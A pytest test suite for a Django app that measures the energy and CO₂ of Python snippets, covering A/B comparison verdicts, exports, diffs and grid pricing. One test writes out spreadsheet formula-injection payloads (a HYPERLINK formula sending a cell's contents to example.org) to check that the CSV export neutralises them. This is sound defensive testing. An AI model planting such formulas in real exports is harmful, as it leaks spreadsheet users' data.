"""Repeats, A/B comparisons, baselines, equivalents, what-if pricing and exports."""

import csv
import io
import json
import random

import pytest
from django.utils import timezone
from django_tasks_db.models import DBTaskResult

from runs import models
from runs.figures import breakdown, comparisons, equivalents, formatting, grids, stats
from runs.models import MAX_REPETITIONS, ControlRun, Run, Series, series_json
from runs.queue import tasks
from runs.snippets import diffs, outputs

from .conftest import HTMX
from .factories import finished_run

pytestmark = pytest.mark.django_db


def make_series(kind: str, energies: dict[str, list[float]]) -> Series:
    """A finished series whose runs have the given energies (duration follows energy)."""
    series = Series.objects.create(
        kind=kind,
        code_a="a()",
        code_b="b()" if kind == "compare" else "",
        repetitions=len(energies["A"]),
    )
    for variant, values in energies.items():
        for repetition, energy in enumerate(values, start=1):
            finished_run(
                series=series,
                variant=variant,
                repetition=repetition,
                energy_kwh=energy,
                duration_s=energy * 1e6,
                emissions_g=energy * 713,
                baseline_energy_kwh=1e-8,
                baseline_cpu_seconds=0.002,
            )
    return series


def test_repeat_from_the_playground_queues_n_runs_in_order(
    client, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post("/series/new", {"code": "print(1)", "repetitions": "4"})
    series = Series.objects.get()
    assert response.status_code == 302 and response["Location"] == series.get_absolute_url()
    assert series.kind == "repeat" and series.repetitions == 4
    runs = list(series.runs.order_by("created_at"))
    assert [(r.variant, r.repetition) for r in runs] == [("A", 1), ("A", 2), ("A", 3), ("A", 4)]
    assert all(r.session_key == client.session.session_key for r in runs)
    # The fair queue holds one run of a client at a time: the first; the rest follow it.
    queued = [t.args_kwargs["args"][0] for t in DBTaskResult.objects.order_by("enqueued_at")]
    assert queued == [runs[0].pk]
    assert [r.queue_position() for r in series.runs.order_by("created_at")] == [1, 2, 3, 4]


def test_a_comparison_interleaves_a_and_b(client, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            "/compare/new", {"code_a": "print('a')", "code_b": "print('b')", "repetitions": "3"}
        )
    series = Series.objects.get()
    assert response["Location"] == f"/compare/{series.public_id}/"
    order = [(r.variant, r.repetition, r.code) for r in series.runs.order_by("created_at")]
    assert order == [
        ("A", 1, "print('a')"),
        ("B", 1, "print('b')"),
        ("A", 2, "print('a')"),
        ("B", 2, "print('b')"),
        ("A", 3, "print('a')"),
        ("B", 3, "print('b')"),
    ]


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ({"code_a": "pass", "code_b": "pass", "repetitions": "31"}, "between 1 and 30"),
        ({"code_a": "pass", "code_b": "pass", "repetitions": "0"}, "between 1 and 30"),
        ({"code_a": "pass", "code_b": "pass", "repetitions": "many"}, "between 1 and 30"),
        ({"code_a": "pass", "code_b": "  ", "repetitions": "5"}, "There is no code to run."),
    ],
)
def test_a_bad_comparison_is_refused_and_keeps_the_code(client, data, message):
    response = client.post("/compare/new", data)
    assert response.status_code == 422
    assert message in response.text
    assert "pass" in response.text
    assert Series.objects.count() == 0 and Run.objects.count() == 0


def test_repeat_over_htmx_renders_the_series_fragment(client):
    response = client.post("/series/new", {"code": "print(1)", "repetitions": "2"}, headers=HTMX)
    series = Series.objects.get()
    assert response.status_code == 201
    assert f'id="series-{series.public_id}"' in response.text
    assert "0 of 2 runs finished" in response.text and "hx-trigger" in response.text


def test_a_repeat_shows_median_and_spread(client):
    series = make_series("repeat", {"A": [1e-9, 2e-9, 3e-9, 4e-9, 50e-9]})  # kWh: µWh
    html = client.get(series.get_absolute_url()).text
    assert "5 of 5 runs finished" in html
    assert "3 µWh" in html  # the median, not the mean an outlier would drag
    assert "2 µWh" in html  # IQR 2..4
    assert "hx-trigger" not in html


def test_a_clear_difference_is_one_answer_with_its_breakdown(client):
    series = make_series(
        "compare",
        {
            "A": [1.00e-6, 1.01e-6, 0.99e-6, 1.02e-6, 0.98e-6],
            "B": [0.77e-6, 0.78e-6, 0.76e-6, 0.77e-6, 0.775e-6],
        },
    )
    html = client.get(series.get_absolute_url()).text
    assert html.count("B uses 23% less energy than A (95% CI") == 1
    # Time is part of the breakdown, not a second verdict.
    assert "B takes" not in html and "No clear difference" not in html
    assert 'data-compared="duration"' in html and "−23%" in html
    assert "Energy here is CPU time × a constant (" in html  # what the verdict rests on


def test_energy_and_time_that_disagree_are_explained(client):
    # B waits: more time, the same CPU work.
    series = make_series(
        "compare",
        {"A": [1.00e-6, 1.01e-6, 0.99e-6, 1.02e-6], "B": [1.00e-6, 1.02e-6, 0.98e-6, 1.01e-6]},
    )
    Run.objects.filter(series=series, variant="B").update(duration_s=5.0)
    Run.objects.filter(series=series, variant="A").update(duration_s=1.0)
    html = client.get(series.get_absolute_url()).text
    assert "A and B use the same energy within ±5%" in html
    assert "Time tells another story — B takes 400% more time than A" in html
    assert "which costs no CPU time and so almost no energy" in html


def test_noise_is_called_noise(client):
    series = make_series(
        "compare",
        {"A": [1.0e-6, 1.1e-6, 0.9e-6, 1.05e-6], "B": [1.02e-6, 0.95e-6, 1.08e-6, 0.97e-6]},
    )
    html = client.get(series.get_absolute_url()).text
    assert "No clear difference in energy after 4 pairs" in html


def test_a_series_url_redirects_to_its_kind(client):
    series = make_series("compare", {"A": [1e-6], "B": [1e-6]})
    response = client.get(f"/series/{series.public_id}/")
    assert response.status_code == 302 and response["Location"] == f"/compare/{series.public_id}/"


def test_series_export_is_json_with_runs_summary_and_comparison(client):
    series = make_series("compare", {"A": [1e-6, 1.02e-6, 0.98e-6], "B": [2e-6, 2.02e-6, 1.98e-6]})
    response = client.get(f"/series/{series.public_id}.json")
    assert (
        response["Content-Disposition"] == f'attachment; filename="compare-{series.public_id}.json"'
    )
    data = json.loads(response.content)
    assert data["kind"] == "compare" and len(data["runs"]) == 6
    assert data["summary"]["A"]["energy"]["median"] == pytest.approx(1e-6)
    assert data["comparison"]["energy"]["change"] == pytest.approx(1.0, rel=0.01)
    assert data["comparison"]["energy"]["significant"] is True
    assert data["comparison"]["energy"]["verdict"].startswith("B uses 100% more energy than A")


def test_run_export_is_the_contract_as_a_download(client):
    run = finished_run()
    response = client.get(f"/runs/{run.public_id}.json")
    assert response["Content-Disposition"].startswith("attachment;")
    assert json.loads(response.content)["id"] == str(run.public_id)


def test_history_csv_follows_codecarbons_columns(client):
    client.get("/")
    key = client.session.session_key
    run = finished_run(session_key=key)
    finished_run(session_key="someone-else")
    response = client.get("/runs.csv")
    assert response["Content-Type"] == "text/csv"
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert len(rows) == 1
    row = rows[0]
    assert row["run_id"] == str(run.public_id)
    assert float(row["energy_consumed"]) == pytest.approx(run.energy_kwh)
    assert float(row["emissions"]) == pytest.approx(run.emissions_g / 1000)  # kg, as CodeCarbon
    assert row["country_name"] == "India" and row["country_iso_code"] == "IND"
    assert row["codecarbon_version"] == "3.3.2" and row["status"] == "succeeded"
    header = next(
        csv.reader(io.StringIO(b"".join(client.get("/runs.csv").streaming_content).decode()))
    )
    assert header[:6] == [
        "timestamp",
        "project_name",
        "run_id",
        "experiment_id",
        "duration",
        "emissions",
    ]


# The ASCII starts, then what spreadsheets trim or fold into them: a space, a line
# feed, a no-break space, full-width and small forms.
@pytest.mark.parametrize(
    "start", ["=", "+", "-", "@", "\t", "\r", " ", "\n", "\u00a0", "＝", "＋", "﹣", "＠"]
)
def test_history_csv_cells_cannot_become_spreadsheet_formulas(client, start):
    client.get("/")
    code = f'{start}HYPERLINK("https://example.org/?x="&A1,"open")\nprint(1)'
    finished_run(session_key=client.session.session_key, code=code)
    text = b"".join(client.get("/runs.csv").streaming_content).decode()
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["code"] == "'" + code  # read back as text, not run as a formula
    assert float(row["energy_consumed"]) > 0  # numbers stay numbers


def test_run_page_shows_baseline_equivalents_and_other_grids(client):
    run = finished_run(
        energy_kwh=1.08e-6, emissions_g=7.7e-4, baseline_energy_kwh=3e-8, baseline_cpu_seconds=0.027
    )
    html = client.get(run.get_absolute_url()).text
    # One headline (the card); the start-up share as its breakdown, in the card's unit.
    assert 'data-metric="energy">1.08 mWh<' in html
    assert "Of the snippet's 1.08 mWh, about 0.03 mWh is what any snippet costs here" in html
    assert '<span data-metric="net-energy">1.05 mWh</span> is your code' in html
    # 1.08 mWh is tiny: pictured at the fewest runs that make one phone charge.
    runs, runs_text = equivalents.scale_for(run.energy_kwh)
    assert runs == 1_000_000 and f"<strong>{runs_text}</strong> like it" in html
    assert "87.1 full charges of a smartphone" in html
    assert "driving 3.1 km in a typical passenger car" in html
    assert "France" in html and 'India <span class="muted">(this run)</span>' in html


@pytest.mark.parametrize("energy_kwh", [1e-10, 1.27e-9, 3e-7, 1e-5, 0.5])
def test_equivalents_read_as_everyday_sentences_at_any_scale(energy_kwh):
    everyday = equivalents.for_figures(energy_kwh, energy_kwh * 700)
    # Enough runs for one phone charge, and no more than a thousandth of that fewer.
    scaled = energy_kwh * everyday.runs
    assert scaled >= equivalents.PHONE_CHARGE_KWH.value or everyday.runs == 10**9
    assert everyday.runs == 1 or scaled / 1000 < equivalents.PHONE_CHARGE_KWH.value
    text = " ".join(item["text"] for item in everyday.items)
    assert "millionths" not in text and "µm" not in text and "µs" not in text


def test_equivalents_use_their_published_constants():
    assert equivalents.CAR_G_PER_KM.value == pytest.approx(248.5, abs=0.1)
    car = equivalents.CAR_G_PER_KM.value
    everyday = equivalents.for_figures(0.0124, car)
    assert everyday.runs == 1
    items = {item["key"]: item["text"] for item in everyday.items}
    assert items["phone"] == "1 full charge of a smartphone"
    assert items["car"] == "the CO₂ of driving 1 km in a typical passenger car"
    assert equivalents.for_figures(None, None) is None


def test_what_if_prices_the_same_energy_on_other_grids():
    rows = grids.what_if(1e-3, "IND")
    by_country = {row["country"]: row for row in rows}
    assert by_country["FRA"]["emissions_g"] == pytest.approx(1e-3 * 56, rel=0.02)
    assert by_country["IND"]["own"] and not by_country["FRA"]["own"]
    assert [row["intensity"] for row in rows] == sorted(row["intensity"] for row in rows)
    assert grids.intensity_for("USA", "california") < grids.intensity_for("USA")


# --- verdicts that check themselves -------------------------------------------------


def test_a_comparisons_code_side_by_side_is_computed_once_and_bounded(client):
    series = Series.objects.submit(
        Series.Kind.COMPARE, ["x = 1\ny = 2\n", "x = 1\ny = 3\nz = 4\n"], 5
    )
    assert series.diff == [
        [1, "x = 1", 1, "x = 1", "equal"],
        [2, "y = 2", 2, "y = 3", "replace"],
        [None, None, 3, "z = 4", "replace"],  # a replace of 1 line by 2
    ]
    # The page renders what was stored: a change of the code after the fact (which
    # nothing does) would not show, because no GET computes the diff again.
    Series.objects.filter(pk=series.pk).update(code_b="something else")
    html = client.get(series.get_absolute_url()).text
    assert "<code>z = 4</code>" in html and "something else" not in html.split("<section")[0]

    # Two 4,000-line snippets: no side-by-side view to compute or to send.
    rng = random.Random(4)
    long_a = "".join(f"{rng.choice('abc')}\n" for _ in range(4000))
    long_b = "".join(f"{rng.choice('abc')}\n" for _ in range(4000))
    big = Series.objects.submit(Series.Kind.COMPARE, [long_a, long_b], 5)
    assert big.diff is None
    response = client.get(big.get_absolute_url())
    assert response.status_code == 200
    assert 'data-diff="too-long"' in response.text
    assert len(response.content) < 120_000  # the two snippets once each, not 8,000 rows


def test_a_noisy_side_and_runs_that_are_mostly_start_up_are_warned_about():
    noisy = make_series("repeat", {"A": [1e-6, 2e-6, 1e-6, 3e-6, 1.2e-6]})
    results = noisy.results()
    assert results.variants["A"].energy.cv > comparisons.NOISY_CV
    assert any("vary by" in w and "The runs" in w for w in results.warnings)

    steady = make_series("repeat", {"A": [1e-6, 1.01e-6, 0.99e-6, 1e-6]})
    Run.objects.filter(series=steady).update(cpu_seconds=0.01)
    warnings = steady.results().warnings
    assert not any("vary by" in w for w in warnings)
    assert any("Put the work in a loop" in w for w in warnings)
    Run.objects.filter(series=steady).update(cpu_seconds=0.5)
    assert steady.results().warnings == []


def finish_round(series: Series, energies: dict[str, list[float]]) -> None:
    """End the queued runs of a comparison's round with these energies (kWh)."""
    for variant, values in energies.items():
        queued = series.runs.filter(variant=variant, status=Run.Status.QUEUED)
        for run, energy in zip(queued.order_by("repetition"), values, strict=True):
            Run.objects.filter(pk=run.pk).update(
                status=Run.Status.SUCCEEDED,
                finished_at=timezone.now(),
                energy_kwh=energy,
                duration_s=energy * 1e6,
                cpu_seconds=energy * 1e6,
                emissions_g=energy * 713,
            )


def test_a_comparison_runs_round_by_round_until_clear(client, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        client.post("/compare/new", {"code_a": "print('a')", "code_b": "print('b')"})
    series = Series.objects.get()
    assert (series.max_pairs, series.repetitions) == (MAX_REPETITIONS, stats.ROUND_PAIRS)
    assert series.runs.count() == 2 * stats.ROUND_PAIRS  # one round, not thirty pairs
    page = client.get(series.get_absolute_url()).text
    assert "The verdict comes after the first 5 pairs" in page

    # Noisy and unclear after the first round: the next round is queued, not a verdict.
    finish_round(series, {"A": [1.0e-6, 1.1e-6, 0.9e-6, 1.05e-6, 0.95e-6],
                          "B": [1.1e-6, 0.95e-6, 1.02e-6, 1.0e-6, 1.05e-6]})  # fmt: skip
    with django_capture_on_commit_callbacks(execute=True):
        added = tasks.continue_comparison(series)
    series.refresh_from_db()
    assert len(added) == 2 * stats.ROUND_PAIRS and series.repetitions == 10
    assert series.finished_at is None
    results = series.results()
    assert results.decision.outcome == stats.CONTINUE and not results.is_over
    assert "Not clear yet after 5 pairs" in client.get(series.get_absolute_url()).text
    assert tasks.continue_comparison(series) == []  # its round is still running

    # A clear difference in the second round: it stops there.
    finish_round(series, {"A": [1.0e-6] * 5, "B": [1.4e-6, 1.41e-6, 1.39e-6, 1.4e-6, 1.42e-6]})
    assert tasks.continue_comparison(series) == []
    series.refresh_from_db()
    assert series.finished_at is not None and series.repetitions == 10
    results = series.results()
    assert results.decision.outcome == stats.DIFFERENT and results.is_over
    assert results.decision.comparison.level == 1 - stats.nominal_level(6)
    html = client.get(series.get_absolute_url()).text
    assert "B uses" in html and "more energy than A (95% CI" in html
    assert "hx-trigger" not in html  # over: no more polling
    # The way of asking for more pairs by hand is gone.
    assert client.post(f"/compare/{series.public_id}/more", {"pairs": "29"}).status_code == 404


def test_a_comparison_stops_at_its_cap_or_when_a_round_gives_nothing(
    client, django_capture_on_commit_callbacks
):
    series = Series.objects.submit(Series.Kind.COMPARE, ["print(1)", "print(2)"], 7)
    assert stats.looks(7) == [5, 7] and series.repetitions == 5
    finish_round(series, {"A": [1.0e-6, 1.2e-6, 0.8e-6, 1.1e-6, 0.9e-6],
                          "B": [1.1e-6, 0.9e-6, 1.0e-6, 1.05e-6, 1.0e-6]})  # fmt: skip
    with django_capture_on_commit_callbacks(execute=True):
        assert len(tasks.continue_comparison(series)) == 4  # the last round: 2 pairs
    finish_round(series, {"A": [1.0e-6, 1.1e-6], "B": [1.05e-6, 0.96e-6]})
    tasks.continue_comparison(series)
    series.refresh_from_db()
    decision = series.results().decision
    assert series.finished_at and decision.outcome == stats.UNSETTLED
    assert decision.verdict().startswith("No clear difference in energy after 7 pairs: B against")

    failing = Series.objects.submit(Series.Kind.COMPARE, ["print(1)", "1/0"], 30)
    finish_round(failing, {"A": [1e-6] * 5})
    failing.runs.filter(variant="B").update(status=Run.Status.FAILED, finished_at=timezone.now())
    assert tasks.continue_comparison(failing) == []
    failing.refresh_from_db()
    assert failing.finished_at is not None, "a round with no complete pair ends it"


def test_a_comparison_over_the_cpu_budget_stops_and_says_why(settings):
    series = Series.objects.submit(
        Series.Kind.COMPARE, ["print(1)", "print(2)"], 30, client="198.51.100.5"
    )
    finish_round(series, {"A": [1.0e-6, 1.2e-6, 0.8e-6, 1.1e-6, 0.9e-6],
                          "B": [1.1e-6, 0.9e-6, 1.0e-6, 1.05e-6, 1.0e-6]})  # fmt: skip
    Run.objects.filter(series=series).update(cpu_seconds=100)
    settings.LIMIT_CPU_SECONDS_PER_HOUR = 500
    assert tasks.continue_comparison(series) == []
    series.refresh_from_db()
    assert series.finished_at and "Stopped after 5 pairs" in series.stop_reason
    assert series.stop_reason in series.results().warnings


def test_a_stalled_comparison_is_continued_by_the_workers_repairs(
    django_capture_on_commit_callbacks,
):
    series = Series.objects.submit(Series.Kind.COMPARE, ["print(1)", "print(2)"], 30)
    finish_round(series, {"A": [1.0e-6, 1.2e-6, 0.8e-6, 1.1e-6, 0.9e-6],
                          "B": [1.1e-6, 0.9e-6, 1.0e-6, 1.05e-6, 1.0e-6]})  # fmt: skip
    assert list(Series.objects.stalled()) == [series]
    with django_capture_on_commit_callbacks(execute=True):
        assert tasks.continue_stalled() == 1
    assert list(Series.objects.stalled()) == []  # its next round waits in the queue


def test_a_warm_up_run_is_shown_but_left_out_of_the_statistics(client):
    series = make_series("repeat", {"A": [9e-6, 1e-6, 1e-6, 1e-6]})
    assert series.results().variants["A"].energy.n == 4
    series.warmup = True
    warmed = series.results().variants["A"].energy
    assert warmed.n == 3 and warmed.median == pytest.approx(1e-6)
    series.save()
    assert "warm-up" in client.get(series.get_absolute_url()).text


# --- host stability -------------------------------------------------------------------


def controls(host: str, values: list[float]) -> None:
    for value in values:
        ControlRun.objects.create(host=host, cpu_seconds=value, duration_s=value)


def test_a_hosts_repeatability_has_one_definition_everywhere(client):
    assert ControlRun.objects.repeatability("h1") is None
    controls("h1", [0.20, 0.21, 0.19, 0.20])
    spread = ControlRun.objects.repeatability("h1")
    expected = stats.summarize([0.20, 0.21, 0.19, 0.20]).cv
    assert spread.runs == 4 and spread.cv == pytest.approx(expected)
    # Older control runs than the window leave it; more than REPEATABILITY_RUNS too.
    controls("h1", [0.5] * (models.REPEATABILITY_RUNS - 4) + [0.2])
    assert ControlRun.objects.repeatability("h1").runs == models.REPEATABILITY_RUNS
    spread = ControlRun.objects.repeatability("h1")
    health = client.get("/healthz").json()
    assert health["repeatability"] == [json.loads(json.dumps(spread.as_dict()))]
    methodology = client.get("/methodology/").text
    assert "<td>h1</td>" in methodology and f"{spread.cv * 100:.0f}%" in methodology


def test_a_run_and_a_comparison_keep_the_repeatability_of_when_they_ran(client):
    controls("h2", [0.20, 0.21, 0.19, 0.20])
    then = ControlRun.objects.repeatability("h2")
    run = finished_run(
        provenance={"host": "h2", "cpu": {}, "ram": {}, "gpu": {}},
        host_repeatability=then.as_dict(),
    )
    series = Series.objects.submit(Series.Kind.COMPARE, ["print(1)", "print(2)"], 5)
    finish_round(series, {"A": [1e-6] * 5, "B": [1.3e-6] * 5})
    Run.objects.filter(series=series).update(provenance={"host": "h2"})
    tasks.continue_comparison(series)
    controls("h2", [0.40, 0.10, 0.35])  # the host gets noisy afterwards
    now = ControlRun.objects.repeatability("h2")
    assert now.cv > then.cv
    for url in (run.get_absolute_url(), series.get_absolute_url()):
        html = client.get(url).text
        assert f"±{then.cv:.1%}" in html and f"±{now.cv:.1%}" not in html, url
    # One host, said once (not once per run).
    assert client.get(series.get_absolute_url()).text.count("While this ran, identical work") == 1
    assert len(series_json(series)["host_repeatability"]) == 1
    assert series_json(series)["host_repeatability"][0]["cv"] == pytest.approx(then.cv)
    # Worded for what it affects: the absolute figures, not the paired verdict.
    html = client.get(series.get_absolute_url()).text
    assert "not to be trusted" not in html
    assert "the verdict pairs A and B run back to back, which cancels most of it" in html


def test_a_comparison_warns_only_where_its_pairs_make_the_verdict_fragile(client):
    steady = make_series("compare", {"A": [1e-6] * 8, "B": [1.1e-6, 1.12e-6, 1.09e-6, 1.11e-6] * 2})
    Run.objects.filter(series=steady).update(cpu_seconds=0.5)  # not mostly start-up
    assert steady.results().warnings == []
    # The difference appears halfway through: the machine, not the code, changed.
    moving = make_series(
        "compare",
        {
            "A": [1e-6] * 8,
            "B": [1.0e-6, 1.01e-6, 0.99e-6, 1.02e-6, 1.3e-6, 1.31e-6, 1.29e-6, 1.32e-6],
        },
    )
    warnings = moving.results().warnings
    assert any("The difference moved while this ran" in w for w in warnings), warnings
    html = client.get(moving.get_absolute_url()).text
    assert "The difference moved while this ran" in html
    # Clear, but many pairs point the other way.
    split = make_series(
        "compare",
        {
            "A": [1e-6] * 9,
            "B": [1.3e-6, 1.32e-6, 0.98e-6, 1.31e-6, 0.97e-6, 1.29e-6, 0.99e-6, 1.3e-6, 1.33e-6],
        },
    )
    results = split.results()
    assert results.decision.outcome == stats.DIFFERENT
    assert any("in only 6 of 9 pairs" in w for w in results.warnings), results.warnings


def test_a_grid_just_chosen_prices_the_shown_run_at_it_and_says_new_runs_use_it(client):
    run = finished_run(energy_kwh=2e-6, emissions_g=2e-6 * 713.4)
    france = grids.grids()["FRA"]
    intensity = grids.intensity_for("FRA")
    note = client.get("/grid", {"grid": "FRA", "run": str(run.public_id)}).text
    assert f"New runs use {france.name} ({intensity:.0f} g/kWh)" in note
    unit = formatting.Unit.fitting([2e-6 * intensity, run.emissions_g], formatting.MASS_UNITS)
    assert f"{unit(2e-6 * intensity)} CO₂e" in note and f"stored: {unit(run.emissions_g)}" in note
    # The cards in view follow it (out of band), said to be a what-if.
    assert 'id="co2-card" hx-swap-oob="true"' in note and 'id="grid-card" hx-swap-oob' in note
    assert f"CO₂e on {france.name}'s grid" in note and "as if run there" in note
    own = grids.grid_of(run.country_iso_code, run.region).key
    back = client.get("/grid", {"grid": own, "run": str(run.public_id)}).text
    assert 'id="co2-card" hx-swap-oob' in back and "card--repriced" not in back
    alone = client.get("/grid", {"grid": "FRA"}).text
    assert "New runs use" in alone and "priced at it" not in alone
    assert client.get("/grid", {"grid": "ATLANTIS"}).status_code == 400
    assert "priced at it" not in client.get("/grid", {"grid": "FRA", "run": "nope"}).text


# --- verdicts never rest on the runs that survived -------------------------------------


def test_a_side_that_fails_on_its_expensive_runs_gets_no_less_energy_verdict(client):
    # The case: A does 2 units of work; B draws 1 or 3 and exits 1 whenever it
    # drew 3 (after doing the work). Counted on its successes alone, B "used 50% less".
    draws = [1, 3, 1, 3, 3, 1, 1, 3, 1, 3]
    series = make_series(
        "compare",
        {"A": [2e-6 * (1 + i % 3 / 100) for i in range(10)], "B": [d * 1e-6 for d in draws]},
    )
    failed = [n for n, draw in enumerate(draws, start=1) if draw == 3]
    series.runs.filter(variant="B", repetition__in=failed).update(
        status=Run.Status.FAILED, exit_code=1
    )
    results = series.results()
    assert results.variants["B"].counted == 10, "the failed runs' energy is counted"
    headline = series.headline(results)
    assert headline.startswith(f"B failed in {len(failed)} of 10 runs; A in none. ")
    assert "less energy" not in headline
    html = client.get(series.get_absolute_url()).text
    assert f"B failed in {len(failed)} of 10 runs; A in none." in html
    exported = client.get(f"/series/{series.public_id}.json").json()
    assert exported["comparison"]["failures"] == f"B failed in {len(failed)} of 10 runs; A in none."


def test_the_side_that_fails_more_is_never_called_the_cheaper_one():
    # B stops early (a crash before its work is done): it measures lower in every pair.
    series = make_series(
        "compare",
        {
            "A": [1.0e-6, 1.01e-6, 0.99e-6, 1.02e-6, 0.98e-6],
            "B": [0.5e-6, 0.51e-6, 0.49e-6, 0.5e-6, 0.5e-6],
        },
    )
    series.runs.filter(variant="B").update(status=Run.Status.TIMED_OUT)
    results = series.results()
    assert results.decision.outcome == stats.DIFFERENT
    headline = series.headline(results)
    assert headline.startswith("B failed in 5 of 5 runs; A in none. No verdict on energy: ")
    assert "less energy" not in headline


def test_sides_that_fail_together_read_as_before():
    series = make_series(
        "compare",
        {"A": [1.00e-6, 1.01e-6, 0.99e-6, 1.02e-6, 0.98e-6],
         "B": [0.77e-6, 0.78e-6, 0.76e-6, 0.77e-6, 0.775e-6]},
    )  # fmt: skip
    series.runs.filter(repetition=2).update(status=Run.Status.FAILED)
    results = series.results()
    assert results.failures is None
    assert series.headline(results).startswith("B uses 23% less energy than A")


def test_a_repeat_counts_its_failed_runs_and_says_so():
    series = make_series("repeat", {"A": [1e-6, 1e-6, 3e-6, 1e-6]})
    series.runs.filter(repetition=3).update(status=Run.Status.LIMIT_EXCEEDED)
    results = series.results()
    assert results.variants["A"].energy.n == 4
    assert "1 of 4 runs failed or hit a limit" in " ".join(results.warnings)


# --- did A and B do the same job? -------------------------------------------------------


def test_a_comparison_says_its_outputs_agree_in_every_pair(client):
    series = make_series("compare", {"A": [1e-6] * 5, "B": [0.9e-6] * 5})
    html = client.get(series.get_absolute_url()).text
    assert "A and B printed the same output in the 5 pairs." in html
    assert 'data-outputs="agree"' in html
    exported = client.get(f"/series/{series.public_id}.json").json()
    assert exported["outputs"]["agree"] is True and exported["outputs"]["compared"] == 5


def test_a_comparison_names_the_pairs_whose_outputs_differ_and_shows_one(client):
    series = make_series("compare", {"A": [1e-6] * 5, "B": [0.9e-6] * 5})
    for n in (2, 4):
        series.runs.filter(variant="B", repetition=n).update(
            stdout="42\n", stdout_digest=outputs.digest("42\n")
        )
    html = client.get(series.get_absolute_url()).text
    assert "A and B printed different output in 2 of 5 pairs (pairs 2, 4)" in html
    assert 'data-outputs="differ"' in html
    # Every run's row shows the start of what it printed, and links to the whole of it.
    assert html.count('output-preview"><code>42') == 2
    exported = client.get(f"/series/{series.public_id}.json").json()
    assert exported["outputs"]["differing"] == [2, 4]
    assert "-hi\n+42" in exported["outputs"]["diff"]
    assert "--- A, pair 2" in exported["outputs"]["diff"]


def test_a_repeat_says_whether_its_runs_printed_the_same(client):
    series = make_series("repeat", {"A": [1e-6] * 4})
    assert (
        "Every run printed the same output (the 4 runs)."
        in client.get(series.get_absolute_url()).text
    )
    series.runs.filter(repetition=3).update(
        stdout="other\n", stdout_digest=outputs.digest("other\n")
    )
    html = client.get(series.get_absolute_url()).text
    assert "1 of 4 runs printed something other than the first (run 3)" in html


def test_an_outputs_diff_is_bounded_whatever_the_outputs():
    many = "\n".join(f"line {i}" for i in range(100_000))
    text = outputs.diff(many, many.replace("line 5", "x" * 10_000), ("a", "b"))
    assert len(text.splitlines()) <= 2 * outputs.MAX_DIFF_LINES + 10
    assert max(len(line) for line in text.splitlines()) <= outputs.MAX_LINE_CHARACTERS + 1


def test_the_short_run_warning_speaks_of_the_figure_beside_it():
    whole = make_series("compare", {"A": [1e-6] * 4, "B": [1e-6] * 4})
    # 60 ms of CPU, 40 of them start-up: the code's own work is what is short.
    Run.objects.filter(series=whole).update(cpu_seconds=0.06, baseline_cpu_seconds=0.04)
    warnings = " ".join(whole.results().warnings)
    assert "B's runs use 20 ms of CPU each beyond the interpreter's start-up" in warnings
    Run.objects.filter(series=whole).update(cpu_seconds=0.5)
    assert "beyond the interpreter's start-up" not in " ".join(whole.results().warnings)

    on_section = make_series("compare", {"A": [1e-6] * 4, "B": [1e-6] * 4})
    Series.objects.filter(pk=on_section.pk).update(section="work")
    on_section.refresh_from_db()
    part = {"name": "work", "calls": 1, "duration_s": 0.01, "cpu_seconds": 0.01,
            "energy_kwh": 1e-8, "share": 0.5}  # fmt: skip
    Run.objects.filter(series=on_section).update(cpu_seconds=0.5, sections=[part])
    warnings = " ".join(on_section.results().warnings)
    assert "spend 10 ms of CPU each in the section “work”" in warnings
    assert "start-up" not in warnings


def _replayed(a: list[str], b: list[str]) -> list[str]:
    """`b` rebuilt from `a` and the opcodes, each equal block checked to be equal."""
    rebuilt, at_a, at_b = [], 0, 0
    for change, a0, a1, b0, b1 in diffs.opcodes(a, b):
        assert (a0, b0) == (at_a, at_b), "opcodes cover both sides in order"
        if change == "equal":
            assert a[a0:a1] == b[b0:b1]
        rebuilt += b[b0:b1]
        at_a, at_b = a1, b1
    assert (at_a, at_b) == (len(a), len(b))
    return rebuilt


# The pairs that made difflib's matcher take 15 s and more: repeated lines.
PATHOLOGICAL = [
    ("pass\n" * 1000, "pass\n0\n" * 500),
    ("a\nb\n" * 500, "b\na\n" * 500),
    ("".join(("pass\n" * 69) + f"u{i}\n" for i in range(14)),
     "".join(("pass\n0\n" * 34) + f"pass\nu{i}\n" for i in range(14))),
]  # fmt: skip


@pytest.mark.parametrize(("code_a", "code_b"), PATHOLOGICAL)
def test_a_side_by_side_view_of_repetitive_code_is_complete_and_bounded(
    code_a, code_b, monkeypatch
):
    a, b = breakdown.source_lines(code_a), breakdown.source_lines(code_b)
    assert _replayed(a, b) == b
    # The matcher is only ever given regions within its budget (its time is ~cubic):
    # watched, not replaced.
    sizes = []
    matcher = diffs.difflib.SequenceMatcher

    def watched(*args, **kwargs):
        sizes.append(len(kwargs["a"]) * len(kwargs["b"]))
        return matcher(*args, **kwargs)

    monkeypatch.setattr(diffs.difflib, "SequenceMatcher", watched)
    diffs.side_by_side(code_a, code_b)
    assert all(size <= diffs.MATCHER_BUDGET for size in sizes), max(sizes)


def test_a_side_by_side_view_covers_both_snippets_whatever_they_are():
    rng = random.Random(27)
    for _ in range(500):
        alphabet = ["x = 1", "pass", "", "y = 2", "return x"][: rng.randint(1, 5)]
        a = [rng.choice(alphabet) for _ in range(rng.randint(0, 150))]
        b = [rng.choice(alphabet) for _ in range(rng.randint(0, 150))]
        assert _replayed(a, b) == b
    # Ordinary edits of ordinary code still align as difflib would: one line changed.
    code = [f"line_{i} = {i}" for i in range(300)]
    edited = [*code[:150], "line_150 = 'changed'", *code[151:]]
    assert diffs.opcodes(code, edited) == [
        ("equal", 0, 150, 0, 150), ("replace", 150, 151, 150, 151), ("equal", 151, 300, 151, 300)
    ]  # fmt: skip


def test_a_time_zone_proposes_its_countrys_grid_and_the_note_says_so(client):
    # What the tz database says of each zone (an old name included), and the grid of
    # that country's ISO code.
    assert client.get("/grid/zone", {"tz": "Europe/Paris"}).json()["grid"] == "FRA"
    assert client.get("/grid/zone", {"tz": "Asia/Calcutta"}).json()["grid"] == "IND"
    for nowhere in ("UTC", "Etc/GMT+3", "Nowhere/Else", "x" * 10_000, ""):
        assert client.get("/grid/zone", {"tz": nowhere}).json() == {"grid": None, "name": None}
    france = grids.grids()["FRA"]
